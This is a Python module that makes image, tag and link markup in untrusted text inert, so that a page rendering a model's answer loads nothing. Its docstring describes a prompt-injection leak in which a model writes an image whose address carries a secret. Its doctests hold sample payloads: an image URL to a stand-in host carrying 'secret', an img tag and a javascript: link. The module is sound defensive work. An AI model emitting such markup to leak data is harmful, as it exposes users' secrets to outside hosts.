"""Makes markup in foreign text inert, so that a page that shows it as Markdown or HTML loads and runs nothing.

A model that has read a hostile passage may write an image with a secret in its address, and a page that renders the
answer would send the secret there. Links to web pages stay, because a person has to click them.
"""

from __future__ import annotations

import re
from urllib.parse import quote, urlsplit

from ras_agent.text.titles import unescaped

_IMAGE = re.compile(r"(?<!!)!++(?=\[)")
_LINKED = ("](", "][", "]:")
# A tag is dangerous if it has an attribute, which may load something, or is script or style. A type name, as in
# List<String>, has no attribute. A tag that does not end within 40 characters (a limit that keeps the time linear), or
# before the text's end (the page may continue), counts as one. An address in angle brackets is a link, which is
# dangerous unless it is of the web, mail or telephone.
_TAG = re.compile(
    r"<(?!https?://[^\s<>=]*>)(?=/?(?:script|style)(?![a-z])|(?!(?:https?|mailto|tel):)[a-z][a-z0-9+.-]{1,31}:"
    r"|/?[a-z](?:[^\s/>]{0,40}(?:[\s/]|\Z)|[^\s/>]{41}))",
    re.IGNORECASE,
)
# the target of a link or of a link's definition, which may follow the marks of a quotation's next line
_LONGEST_LEAD = 300
_LEADS = re.compile(rf"\](?=[(:][\s>]*+(?:<([^<>\n]*+)|(\S{{0,{_LONGEST_LEAD}}}+)))")
# a long target that is this short without the characters that browsers ignore hides something
_SHORTEST_SCHEME = 40
_ESCAPE = re.compile(r"\\(?=[!-/:-@\[-`{-~])")
_SCHEME = re.compile(r"([a-z][a-z0-9+.-]*+):.", re.DOTALL | re.IGNORECASE)
_WEB = ("http", "https")
_FOLLOWED = frozenset((*_WEB, "mailto", "tel"))
_BEGINNING = re.compile(
    r"(?<!!)!++(?:\[|$)|<(?:[a-zA-Z/]|$)|\](?:$|[(:](?!\s*+https?://))"
)
# the characters of an address that are not escaped
_SAFE = "%/?#:;,=&+$@~-._*"
_HOST = re.compile(r"[\w.~:@%\[\]-]+")


def inert_markup(text: str) -> str:
    """Return a text in which images are turned into links, and tags and dangerous links are made inert.

    Brackets of such tags and links are replaced by look-alikes.

    >>> inert_markup("Leith ![x](https://elsewhere.example/?q=secret) <img src='//elsewhere.example'> List<String> !")
    "Leith [x](https://elsewhere.example/?q=secret) ‹img src='//elsewhere.example'> List<String> !"
    >>> inert_markup("[the map](javascript:alert(1)) of [Leith](https://maps.example/leith)")
    '[the map›(javascript:alert(1)) of [Leith](https://maps.example/leith)'
    """
    text = _TAG.sub("‹", text)
    if not any(mark in text for mark in _LINKED):
        return text  # without a link, "![" is not an image, as in vec![1, 2]
    return _LEADS.sub(_lead, _IMAGE.sub("", text))


def _lead(link: re.Match[str]) -> str:
    """Return the bracket that ends a link's text, or a look-alike unless the link's target is on the web, mail
    or phone.
    """
    written = link[1] or link[2] or ""
    address = _ESCAPE.sub("", unescaped(written))
    # browsers ignore characters that cannot be printed
    address = "".join(filter(str.isprintable, address.replace(" ", "")))
    scheme = _SCHEME.match(address)
    if scheme:
        follows = scheme[1].lower() in _FOLLOWED
    else:
        follows = len(written) < _LONGEST_LEAD or len(address) > _SHORTEST_SCHEME
    if follows:
        return "]"
    return "›"


def markup_start(text: str, start: int = 0) -> int:
    """Return the first position, from `start` on, at which a piece of markup may begin that later text would
    complete.

    Return the length of the text if there is no such position.
    """
    beginning = _BEGINNING.search(text, start)
    if beginning:
        return beginning.start()
    return len(text)


def web_address(text: str) -> str:
    r"""Return the URL of a web page, escaped so that no character ends a quotation, a link or a tag.

    Return "" if `text` is no such URL.

    >>> web_address("https://e.example/a (1).pdf?q=\"x\"")
    'https://e.example/a%20%281%29.pdf?q=%22x%22'
    >>> web_address("javascript:alert(1)")
    ''
    """
    try:
        parts = urlsplit(text.strip())
    except ValueError:
        return ""
    if parts.scheme not in _WEB or not _HOST.fullmatch(parts.netloc):
        return ""
    rest = parts._replace(scheme="", netloc="").geturl()
    path = quote(rest, safe=_SAFE, errors="replace")
    return f"{parts.scheme}://{parts.netloc}{path}"
